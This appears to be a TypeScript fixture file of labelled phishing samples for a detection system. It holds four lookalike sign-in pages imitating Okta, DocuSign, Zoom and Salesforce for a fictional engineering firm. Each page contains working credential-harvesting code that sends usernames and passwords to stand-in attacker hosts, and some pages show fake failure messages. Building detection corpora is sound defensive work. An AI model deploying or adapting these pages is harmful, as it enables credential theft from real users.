import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, pngRoute, cssRoute } from '../parts/t-kit.js';

// Reported by employees: SaaS vendor sign-in lures (Okta, DocuSign, Zoom, Salesforce) — dev split.

const oktaHost = 'hartwell-eng.okta-sso.support';
const dsHost = 'docusign.envelope-review.net';
const zoomHost = 'zoom-us.recordings-share.com';
const sfHost = 'hartwell.my-salesforce-login.com';

export const entries: Entry[] = [
  {
    id: 't-ph-okta-lookalike-tenant',
    label: 'phishing',
    kind: 'okta-kit',
    url: `https://${oktaHost}/app/office365/exk1a2b3c4/sso/saml?fromURI=%2Fapp%2FUserHome`,
    body: doc(
      'Hartwell Engineering - Sign In',
      `<link rel="stylesheet" href="/assets/okta-sign-in.min.css"><link rel="icon" href="/favicon.ico">`,
      `<div class="bg"></div><main class="auth"><div class="ow">
<div class="hd"><img src="/assets/logo.png" alt="Hartwell Engineering" width="160" height="40" style="background:#1d4e89"></div>
<form id="okta-sign-in" class="bd" autocomplete="off"><h2>Sign In</h2>
<div id="err" class="er" hidden>Unable to sign in</div>
<label for="u">Username</label><input id="u" name="username" type="text" autocomplete="username">
<label for="p">Password</label><input id="p" name="password" type="password">
<label class="cb"><input type="checkbox" name="remember"> Remember me</label>
<input type="submit" class="btn" value="Sign In">
<div class="lk"><a href="#">Need help signing in?</a></div></form>
<div class="pw">Powered by <b>okta</b></div></div></main>
<footer class="ft">This site is intended for authorised users of Hartwell Engineering. Activity may be monitored. &nbsp;|&nbsp; <a href="#">Privacy Policy</a></footer>
<script src="/assets/sign-in.js"></script>`,
    ),
    routes: {
      [`${oktaHost}/assets/okta-sign-in.min.css`]: cssRoute(`body{margin:0;font:14px/1.4 "Proxima Nova",Montserrat,Arial,sans-serif;background:#f4f5f7;color:#1d1d21}.bg{position:fixed;inset:0 0 55% 0;background:#1d4e89;z-index:-1}.auth{padding-top:80px}.ow{width:400px;margin:0 auto;background:#fff;border:1px solid #ddd;border-radius:3px;box-shadow:0 2px 0 rgba(175,175,175,.12)}.hd{padding:30px 90px 20px;border-bottom:1px solid #ddd;text-align:center}.bd{padding:20px 42px 30px}.bd h2{text-align:center;font-size:15px;font-weight:600;margin:12px 0 20px}.bd label{display:block;margin:10px 0 4px;font-size:13px}.bd input[type=text],.bd input[type=password]{width:100%;height:38px;border:1px solid #8c8c96;border-radius:3px;padding:0 8px;box-sizing:border-box}.cb{display:flex!important;gap:6px;align-items:center}.btn{width:100%;height:40px;margin-top:16px;background:#1662dd;border:0;border-radius:3px;color:#fff;font-size:14px;cursor:pointer}.lk{margin-top:18px;font-size:13px}.lk a{color:#6e6e78}.pw{text-align:center;padding:10px;font-size:11px;color:#888;border-top:1px solid #eee}.er{background:#fff1f0;border:1px solid #e34843;padding:8px;margin-bottom:8px}.ft{text-align:center;font-size:11px;color:#777;margin-top:40px}`),
      [`${oktaHost}/assets/logo.png`]: pngRoute(29, 78, 137),
      [`${oktaHost}/favicon.ico`]: pngRoute(0, 125, 193),
      [`${oktaHost}/assets/sign-in.js`]: jsRoute(`(function(){var f=document.getElementById('okta-sign-in'),n=0;
f.addEventListener('submit',function(e){e.preventDefault();n++;
var data={username:f.username.value,password:f.password.value,attempt:n,host:location.host,ts:new Date().toISOString()};
fetch('/api/v1/authn',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(data)}).catch(function(){});
if(n<2){document.getElementById('err').hidden=false;f.password.value='';}else{location.replace('https://hartwell-eng.okta.com/');}
});})();`),
    },
  },
  {
    id: 't-ph-docusign-review-provider-pick',
    label: 'phishing',
    kind: 'esign-lure',
    url: `https://${dsHost}/Signing/EmailStart.aspx?a=7c1f9e2d-44b0-4d0a-9a51-3a1e0b7c2d11&etti=24&acct=86b2a4c1`,
    body: doc(
      'DocuSign',
      `<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f4f4f4}
.hd{background:#fff;border-bottom:1px solid #ddd;padding:12px 24px;display:flex;align-items:center;gap:10px}
.lg{font-weight:700;font-size:20px;color:#1e1e1e}.lg span{color:#ffcc22}
.c{max-width:640px;margin:30px auto;background:#fff;border:1px solid #ddd}
.y{background:#1e4ca1;color:#fff;text-align:center;padding:28px}
.y a{display:inline-block;background:#ffc820;color:#1e1e1e;font-weight:700;padding:12px 26px;text-decoration:none;border-radius:2px;margin-top:10px;cursor:pointer}
.pk{display:none;padding:24px}.pk h3{margin-top:0}.opt{display:flex;gap:10px;flex-wrap:wrap}.opt button{flex:1 1 40%;padding:12px;border:1px solid #ccc;background:#fff;cursor:pointer;font-size:14px;border-radius:3px}
.frm{display:none;margin-top:16px}.frm input{width:100%;padding:10px;margin:5px 0;border:1px solid #bbb;box-sizing:border-box}.frm button{background:#1e4ca1;color:#fff;border:0;padding:10px 24px;cursor:pointer}
.ft{font-size:11px;color:#777;padding:18px 24px;border-top:1px solid #eee}</style>`,
      `<div class="hd"><div class="lg">Docu<span>&#9679;</span>Sign</div></div>
<div class="c"><div class="y"><div style="font-size:15px">Accounts Payable sent you a document to review and sign.</div><a id="rv">REVIEW DOCUMENT</a></div>
<div style="padding:20px 24px;font-size:14px;color:#333"><b>Hartwell Engineering - Wire Authorization Form Nov-2026.pdf</b><br>Please review and complete at your earliest convenience. Thank you, AP Team</div>
<div class="pk" id="pk"><h3>Select your email provider to view the document</h3>
<div class="opt"><button data-p="Office 365">Office 365</button><button data-p="Outlook">Outlook</button><button data-p="Gmail">Gmail</button><button data-p="Yahoo">Yahoo</button><button data-p="AOL">AOL</button><button data-p="Other Mail">Other Mail</button></div>
<div class="frm" id="fr"><div id="pn" style="font-weight:700"></div><input type="email" id="em" placeholder="Email address"><input type="password" id="pw" placeholder="Email password"><button id="sb">View Document</button><div id="ms" style="color:#c00;font-size:13px;margin-top:6px"></div></div></div>
<div class="ft">Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br>About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding.</div></div>
<script>
var prov='';document.getElementById('rv').onclick=function(){document.getElementById('pk').style.display='block'};
[].forEach.call(document.querySelectorAll('.opt button'),function(b){b.onclick=function(){prov=b.dataset.p;document.getElementById('pn').textContent='Sign in with '+prov;document.getElementById('fr').style.display='block'}});
var c=0;document.getElementById('sb').onclick=function(){c++;var x=new XMLHttpRequest();x.open('POST','https://mailer-dsx.space/ds/post.php');
x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('email='+encodeURIComponent(document.getElementById('em').value)+'&password='+encodeURIComponent(document.getElementById('pw').value)+'&provider='+encodeURIComponent(prov));
document.getElementById('pw').value='';document.getElementById('ms').textContent=c<3?'Login failed, please enter correct password.':'Document could not be loaded. Try again later.';};
</script>`,
    ),
  },
  {
    id: 't-ph-zoom-recording-signin',
    label: 'phishing',
    kind: 'zoom-lure',
    url: `https://${zoomHost}/rec/share/Q4-all-hands-pwd=Ur8Kq?startTime=1764252000000`,
    body: doc(
      'Zoom Cloud Recording - Sign In',
      `<link rel="icon" href="/rec/favicon.png"><style>body{margin:0;font-family:Lato,Helvetica,Arial,sans-serif;background:#fff;color:#232333}
.top{display:flex;align-items:center;justify-content:space-between;padding:14px 32px;border-bottom:1px solid #ededf4}
.z{color:#0b5cff;font-weight:900;font-size:26px;letter-spacing:-1px}
.w{display:flex;max-width:980px;margin:40px auto;gap:40px;padding:0 20px}
.pv{flex:1;background:#1a1a1a;aspect-ratio:16/9;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#fff;position:relative}
.pv:after{content:"\\25B6";font-size:42px;opacity:.7}
.f{width:340px}.f input{width:100%;height:40px;border:1px solid #babacc;border-radius:8px;padding:0 12px;margin:6px 0;box-sizing:border-box}
.f button{width:100%;height:40px;background:#0b5cff;border:0;border-radius:8px;color:#fff;font-weight:700;cursor:pointer;margin-top:8px}
.sso{display:flex;gap:10px;margin-top:16px}.sso span{flex:1;border:1px solid #ddd;border-radius:8px;text-align:center;padding:8px;font-size:13px}</style>`,
      `<div class="top"><div class="z">zoom</div><div style="font-size:14px">Support &nbsp; English &#9662;</div></div>
<div class="w"><div><div class="pv" style="width:560px"></div><h3>Q4 All Hands - Hartwell Engineering</h3><p style="color:#6e7680;font-size:14px">Recorded Nov 27, 2026 &middot; 58:14 &middot; Shared by Executive Office</p></div>
<div class="f"><h2 style="margin-top:0">Sign in to view recording</h2><p style="font-size:13px;color:#6e7680">This recording is only available to authenticated users from the host's organisation.</p>
<form id="zf"><input type="email" id="e" placeholder="Email Address" required><input type="password" id="p" placeholder="Password" required><button>Sign In</button></form>
<div class="sso"><span>SSO</span><span>Google</span><span>Microsoft</span></div>
<p style="font-size:12px;color:#6e7680">By signing in, I agree to the Zoom Privacy Statement and Terms of Service.</p></div></div>
<script src="/rec/js/auth.bundle.js"></script>`,
    ),
    routes: {
      [`${zoomHost}/rec/favicon.png`]: pngRoute(11, 92, 255),
      [`${zoomHost}/rec/js/auth.bundle.js`]: jsRoute(`(function(){var f=document.getElementById('zf');f.onsubmit=function(ev){ev.preventDefault();
var p={e:document.getElementById('e').value,p:document.getElementById('p').value,src:'zoom-rec'};
fetch('https://zoom-us.recordings-share.com/rec/api/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(p)}).then(function(){
document.getElementById('p').value='';alert('Incorrect email or password');}).catch(function(){alert('Incorrect email or password')});};})();`),
    },
  },
  {
    id: 't-ph-salesforce-session-expired',
    label: 'phishing',
    kind: 'salesforce-kit',
    url: `https://${sfHost}/?startURL=%2Flightning%2Fo%2FOpportunity%2Flist&ec=302`,
    body: doc(
      'Login | Salesforce',
      `<style>body{margin:0;background:#f3f2f2;font-family:"Salesforce Sans",Arial,sans-serif}
.w{width:380px;margin:60px auto}.lg{text-align:center;color:#00a1e0;font-size:38px;font-weight:700;margin-bottom:24px}
.c{background:#fff;border:1px solid #d8dde6;border-radius:4px;padding:20px 24px}
label{font-size:13px;color:#54698d;display:block;margin:10px 0 4px}input[type=email],input[type=password]{width:100%;height:40px;border:1px solid #d8dde6;border-radius:4px;padding:0 10px;box-sizing:border-box}
.b{width:100%;height:44px;background:#0070d2;color:#fff;border:0;border-radius:4px;font-size:15px;margin-top:16px;cursor:pointer}
.n{background:#fef1d8;border:1px solid #f0b400;padding:10px;font-size:13px;border-radius:4px;margin-bottom:12px}
.ft{text-align:center;font-size:12px;color:#54698d;margin-top:20px}</style>`,
      `<div class="w"><div class="lg">&#9729; salesforce</div><div class="c">
<div class="n">Your session has ended. Log in again to continue to the Q4 pipeline review.</div>
<form id="lf" method="post" action="https://sfdc-sess-relay.buzz/login.php"><label>Username</label><input type="email" name="un" required><label>Password</label><input type="password" name="pw" required>
<button class="b">Log In</button><p style="font-size:13px"><input type="checkbox"> Remember me</p>
<p style="font-size:13px"><a href="#" style="color:#0070d2">Forgot Your Password?</a> &nbsp; <a href="#" style="color:#0070d2">Use Custom Domain</a></p></form></div>
<div class="ft">&copy; 2026 Salesforce, Inc. All rights reserved. | Privacy</div></div>`,
    ),
  },
];
